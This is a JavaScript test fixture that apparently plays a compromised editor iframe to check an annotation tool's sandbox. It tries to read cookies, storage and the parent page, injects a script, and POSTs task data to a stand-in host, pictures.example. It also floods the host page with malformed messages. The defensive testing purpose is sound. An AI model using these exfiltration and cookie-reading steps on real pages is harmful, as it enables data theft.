// In the place of the editor's page: whatever somebody could try who had taken it over.

const SERVER = new URL(document.currentScript.src).origin;

addEventListener("message", async ({ ports: [port] }) => {
  const tried = {};
  const attempt = async (name, act) => { try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused"; } };
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.open("annolog-work"));
  await attempt("api", async () => (await fetch("/v1/me", { credentials: "include" })).status);
  await attempt("script", () => new Promise((loaded, fails) => {
    // One that says itself that it may be loaded from anywhere, by another name.
    const more = document.createElement("script");
    Object.assign(more, { src: `${SERVER}/label-studio-editor/other.js`, onload: loaded, onerror: fails });
    document.head.append(more);
  }));
  await attempt("elsewhere", () => fetch("https://pictures.example/carried-off", { method: "POST", mode: "no-cors", body: "the task" }));
  await attempt("page", () => parent.document.title);
  await attempt("away", () => { top.location = "/projects"; });
  await attempt("code", () => new Function("return 1")());
  await attempt("window", () => { if (!open("/projects")) throw new Error(); });
  // None of these is what the page around expects of the editor.
  const lies = [
    null, 7, "text", { kind: "changed" },
    { kind: "changed", result: [{ type: "choices" }] }, { kind: "changed", result: "{}" },
    { kind: "changed", result: "[[1]]" }, { kind: "changed", result: "[" + "1,".repeat(10_000_001) + "1]" }, { kind: "height", height: 1e9 },
    { kind: "height", height: "1px;position:fixed" }, { kind: "selected", id: { toString: 1 } }, { kind: "key" },
    { kind: "key", event: { key: "k", code: "KeyK", ctrlKey: true } }, { kind: "answer", number: 1, valid: true, result: "[]" }, { kind: "constructor" },
  ];
  for (const lie of lies) port.postMessage(lie);
  port.postMessage({ kind: "shown" });
  port.onmessage = ({ data: { kind, number } }) => {
    if (kind === "answer") port.postMessage({ kind, number, valid: true, result: JSON.stringify([{ from_name: "nobody", to_name: "text", type: "choices", value: { choices: ["<b>no</b>"] } }]) });
  };
  document.documentElement.dataset.tried = JSON.stringify(tried);
});
addEventListener("DOMContentLoaded", () => parent.postMessage({ annolog: "ready" }, "*"));
